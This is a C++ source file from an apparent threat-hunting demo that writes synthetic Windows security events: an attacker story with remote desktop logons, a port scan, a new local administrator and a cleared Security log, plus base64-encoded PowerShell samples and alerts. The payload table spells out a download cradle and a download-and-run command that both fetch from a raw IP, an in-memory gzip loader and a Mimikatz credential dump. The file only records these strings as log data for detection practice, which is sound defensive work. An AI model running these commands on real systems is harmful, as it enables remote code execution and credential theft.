#include "huntdb/demo/attack_story.h"

#include <algorithm>

#include "huntdb/functions/kernels/encoding_util.h"
#include "huntdb/types/datetime.h"

namespace huntdb::demo {

namespace {

constexpr const char* kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

struct Payload {
  int days_ago;
  int minute_of_day;
  size_t victim;  // index into Population::powershell_victims
  const char* flags;
  const char* script;
  const char* alert;
  const char* description;
  const char* severity;
};

// What attackers run encoded: download cradles, in-memory gzip loaders, credential theft.
constexpr Payload kPayloads[] = {
    {9, 10 * 60 + 42, 0, "-nop -w hidden -enc",
     "IEX (New-Object Net.WebClient).DownloadString('http://185.23.41.7/update.ps1')",
     "Suspicious PowerShell command line", "A PowerShell download cradle was run with an encoded command.", "High"},
    {5, 15 * 60 + 7, 1, "-NoP -NonI -W Hidden -Exec Bypass -enc",
     "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAMtIzcnJBwCGphA2BQAAAA=='));"
     "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
     "Detected encoded executable in command line data",
     "An encoded, gzip-compressed script was loaded into memory and run.", "High"},
    {2, 9 * 60 + 55, 2, "-w 1 -enc", "Invoke-Mimikatz -DumpCreds | Out-File C:\\Users\\Public\\creds.txt",
     "Detected suspicious credential dumping", "Credential theft tooling was run through PowerShell.", "High"},
    {1, 14 * 60 + 20, 0, "-ExecutionPolicy Bypass -enc",
     "Invoke-WebRequest -Uri http://185.23.41.7/svc.exe -OutFile C:\\Users\\Public\\svc.exe; Start-Process C:\\Users\\Public\\svc.exe",
     "Suspicious PowerShell command line", "A file was downloaded and started from a public folder.", "Medium"},
};

constexpr const char* kBenignScripts[] = {
    "Get-Service | Where-Object {$_.Status -eq 'Running'} | Out-File C:\\Temp\\services.txt",
    "Get-ChildItem C:\\Logs -Recurse | Where-Object {$_.LastWriteTime -lt (Get-Date).AddDays(-30)} | Remove-Item",
};

int64_t at(const Calendar& cal, int days_ago, int minute) {
  int64_t last_day = cal.first_day + (cal.days - 1) * kTicksPerDay;
  return last_day - days_ago * kTicksPerDay + minute * kTicksPerMinute;
}

}  // namespace

std::string encode_powershell(std::string_view script) {
  std::string utf16;
  for (char c : script) {
    utf16 += c;  // the scripts are ASCII: UTF-16LE is each byte and a zero
    utf16 += '\0';
  }
  std::string out;
  functions::base64_encode(utf16, out);
  return out;
}

Story write_attack_story(const Calendar& cal, const Population& pop, EventWriter& out) {
  Story story;
  size_t server = pop.attacked_server;
  size_t admin = pop.attacker_admin;
  const Computer& srv = pop.computers[server];
  const std::string& user = pop.accounts[admin].user;
  // The admin's workstation: where the remote desktop sessions come from.
  const Computer& from = pop.computers[pop.powershell_victims.back() + 1 < pop.computers.size()
                                           ? pop.powershell_victims.back() + 1
                                           : pop.powershell_victims.back()];
  int first_days_ago = std::min(6, cal.days - 2);
  int second_days_ago = std::min(3, first_days_ago - 1);
  auto process = [&](int64_t t, const std::string& path, const char* parent, const std::string& command_line) {
    out.process_created(t, server, admin, path, parent, command_line, true);
    story.processes.push_back({srv.name, out.pool().at(pop.accounts[admin].account), path, t});
  };

  // Day one: a remote desktop logon, and regedit.
  int64_t t = at(cal, first_days_ago, 10 * 60 + 2);
  out.logon(t, server, admin, 10, from.ip, from.code);
  out.special_privileges(t, server, admin);
  process(t + 3 * kTicksPerMinute, "C:\\Windows\\regedit.exe", "C:\\Windows\\explorer.exe", "\"C:\\Windows\\regedit.exe\"");
  out.logoff(t + 19 * kTicksPerMinute, server, admin, 10);

  // Day two, at night: remote desktop again, a port scan, the user account dialogs, a new local
  // administrator, Process Monitor, and the Security log cleared.
  t = at(cal, second_days_ago, 2 * 60 + 11);
  out.logon(t, server, admin, 10, from.ip, from.code);
  out.special_privileges(t, server, admin);
  process(t + 20 * kTicksPerSecond, "C:\\Windows\\System32\\rdpclip.exe", "C:\\Windows\\System32\\svchost.exe", "rdpclip");
  std::string downloads = "C:\\Users\\" + user + "\\Downloads\\";
  process(t + 2 * kTicksPerMinute, downloads + "portping.exe", "C:\\Windows\\System32\\cmd.exe",
          "portping.exe -t 10.0.1.0/24 -p 22,135,445,1433,3389");
  process(t + 5 * kTicksPerMinute, "C:\\Windows\\System32\\netplwiz.exe", "C:\\Windows\\explorer.exe", "netplwiz.exe");
  process(t + 5 * kTicksPerMinute + 40 * kTicksPerSecond, "C:\\Windows\\System32\\control.exe",
          "C:\\Windows\\System32\\cmd.exe", "control userpasswords2");
  out.user_created(t + 7 * kTicksPerMinute, server, admin, "support_tmp");
  out.added_to_admins(t + 7 * kTicksPerMinute + 5 * kTicksPerSecond, server, admin, "support_tmp");
  process(t + 10 * kTicksPerMinute, downloads + "Procmon64.exe", "C:\\Windows\\explorer.exe",
          "\"" + downloads + "Procmon64.exe\" /AcceptEula /Quiet /Minimized /BackingFile C:\\Users\\Public\\pm.pml");
  out.log_cleared(t + 23 * kTicksPerMinute, server, admin);
  out.logoff(t + 29 * kTicksPerMinute, server, admin, 10);
  story.alerts.push_back({t + 9 * kTicksPerMinute, server, admin, "New local administrator created",
                          "A local account was created and added to the Administrators group during a remote desktop session.",
                          "Medium", "Persistence", "control userpasswords2"});
  story.alerts.push_back({t + 25 * kTicksPerMinute, server, admin, "Security event log was cleared",
                          "The Security event log was cleared by an administrator account.", "Medium", "DefenseEvasion", ""});

  // Encoded PowerShell on workstations.
  for (const Payload& p : kPayloads) {
    if (p.days_ago >= cal.days) continue;
    size_t c = pop.powershell_victims[p.victim];
    const Computer& ws = pop.computers[c];
    size_t account = ws.users[0];
    int64_t when = at(cal, p.days_ago, p.minute_of_day);
    if (when > cal.now) continue;
    std::string command_line = std::string(kPowerShell) + " " + p.flags + " " + encode_powershell(p.script);
    out.process_created(when, c, account, kPowerShell, "C:\\Windows\\System32\\cmd.exe", command_line);
    story.payloads.push_back({ws.name, out.pool().at(pop.accounts[account].account), command_line, p.script, when});
    story.alerts.push_back({when + 2 * kTicksPerMinute, c, account, p.alert, p.description, p.severity, "Execution",
                            command_line});
  }
  return story;
}

void write_benign_encoded_powershell(const Calendar& cal, const Population& pop, Random& random, EventWriter& out) {
  // Inventory scripts on the servers, every day at about 06:00.
  std::vector<std::string> command_lines;
  for (const char* s : kBenignScripts) command_lines.push_back(std::string(kPowerShell) + " -NoProfile -enc " + encode_powershell(s));
  for (int d = 0; d < cal.days; ++d)
    for (size_t c = 0; c < pop.computers.size(); ++c) {
      if (!pop.computers[c].server) continue;
      int64_t t = cal.first_day + d * kTicksPerDay + 6 * kTicksPerHour + static_cast<int64_t>(random.below(600)) * kTicksPerSecond;
      if (t > cal.now) continue;
      out.process_created(t, c, pop.computers[c].machine_account, kPowerShell, "C:\\Windows\\System32\\svchost.exe",
                          command_lines[c % command_lines.size()]);
    }
}

}  // namespace huntdb::demo
